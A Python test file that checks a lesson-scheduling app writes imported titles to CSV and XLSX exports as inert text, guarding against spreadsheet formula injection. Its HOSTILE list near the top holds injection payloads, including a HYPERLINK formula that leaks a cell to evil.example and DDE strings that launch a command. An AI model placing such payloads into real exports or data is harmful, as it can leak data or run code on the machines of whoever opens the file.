"""Issue 8, finding 5 (second half): a formula typed into a lesson or a name is stored as typed,
and every table written for a spreadsheet shows it as text (`trust_lesson.tables`).
"""

import ast
import csv
import io
import zipfile
from datetime import date, datetime, time
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook

from tests.lessons.test_import import school_term, upload
from tests.support.factories import signed_in
from tests.support.spreadsheets import lesson_workbook
from trust_lesson import tables
from trust_lesson.models import Role
from trust_lesson.runtime import Runtime

# What the audit stored (finding 5), and the other ways a spreadsheet starts a formula.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1, "Open")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
)
STARTS_A_FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d")
HEADER = ("Lesson", "Description")


def live(cell: object) -> bool:
    return isinstance(cell, str) and cell.lstrip(" ").startswith(STARTS_A_FORMULA)


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [list(row) for row in sheet.iter_rows(values_only=True)]


async def imported_titles(client: httpx.AsyncClient, runtime: Runtime) -> list[str]:
    """The hostile titles go in through the real import and come back out of the API."""
    teacher = await signed_in(client, runtime, Role.INSTRUCTOR)
    term = await school_term(client, teacher)
    # one start each: some titles differ only in leading blanks, which the import reads as
    # the same lesson when they start together
    lessons = [
        (title, date(2026, 3, 10), time(10, minute), 60, None, title)
        for minute, title in enumerate(HOSTILE)
    ]
    imported = await upload(client, teacher, term["id"], lesson_workbook(lessons=lessons))
    assert imported.status_code == 201, imported.text
    listed = await client.get("/api/v1/lessons", headers=teacher.headers)
    return [lesson["title"] for lesson in listed.json()]


async def test_imported_formulas_are_stored_as_typed_and_written_to_csv_as_text(
    client: httpx.AsyncClient, runtime: Runtime
) -> None:
    titles = await imported_titles(client, runtime)

    read_back = read_csv(tables.csv_bytes(HEADER, [(t, t) for t in titles]))

    assert len(titles) == len(HOSTILE) and all(live(title) for title in titles)
    assert read_back[0] == list(HEADER)
    assert not any(live(cell) for row in read_back for cell in row)
    assert sorted(row[0] for row in read_back[1:]) == sorted("'" + t for t in titles)


async def test_imported_formulas_are_written_to_xlsx_as_text_cells(
    client: httpx.AsyncClient, runtime: Runtime
) -> None:
    titles = await imported_titles(client, runtime)

    data = tables.xlsx_bytes("Lessons", HEADER, [(t, t) for t in titles])
    read_back = read_xlsx(data)

    assert not any(live(cell) for row in read_back for cell in row)
    assert sorted(row[0] for row in read_back[1:]) == sorted("'" + t for t in titles)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_after_whitespace_or_in_full_width_is_quoted_too(value: str) -> None:
    [[csv_cell], [xlsx_cell]] = [
        read_csv(tables.csv_bytes(["a"], [[value]]))[1],
        read_xlsx(tables.xlsx_bytes("Sheet", ["a"], [[value]]))[1],
    ]

    assert csv_cell == "'" + value
    assert xlsx_cell == "'" + value.replace("\r", "\n")  # XML reads a CR back as LF


@pytest.mark.parametrize("write", ["csv", "xlsx"])
def test_ordinary_values_are_written_unchanged(write: str) -> None:
    row = ("Zoë O'Brien-Łukasiewicz", 3, 2.5, -4, datetime(2026, 3, 10, 10, 0), None, "a - b")

    if write == "csv":
        [_, back] = read_csv(tables.csv_bytes(["a"] * len(row), [row]))
        assert back == [row[0], "3", "2.5", "-4", "2026-03-10 10:00:00", "", "a - b"]
    else:
        [_, back_cells] = read_xlsx(tables.xlsx_bytes("Sheet", ["a"] * len(row), [row]))
        assert back_cells == list(row)


WRITERS = {("csv", "writer"), ("csv", "DictWriter"), ("openpyxl", "Workbook")}


def spreadsheet_writers(source: str) -> list[str]:
    """`csv.writer`, `csv.DictWriter`, `openpyxl.Workbook` and xlsxwriter, however imported."""
    used: list[tuple[str, str]] = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.ImportFrom) and node.module:
            used += [(node.module.split(".")[0], alias.name) for alias in node.names]
        elif isinstance(node, ast.Import):
            used += [(alias.name.split(".")[0], "") for alias in node.names]
        elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            used.append((node.value.id, node.attr))
    return [f"{m}.{name}" for m, name in used if (m, name) in WRITERS or m == "xlsxwriter"]


def test_no_module_but_tables_writes_a_spreadsheet() -> None:
    package = Path(tables.__file__).parent
    writers = {
        str(path.relative_to(package)): found
        for path in sorted(package.rglob("*.py"))
        if path != Path(tables.__file__) and (found := spreadsheet_writers(path.read_text()))
    }

    assert writers == {}, "write CSV/XLSX through trust_lesson.tables (formulas made inert)"
    assert spreadsheet_writers(Path(tables.__file__).read_text())  # the scan does see writers
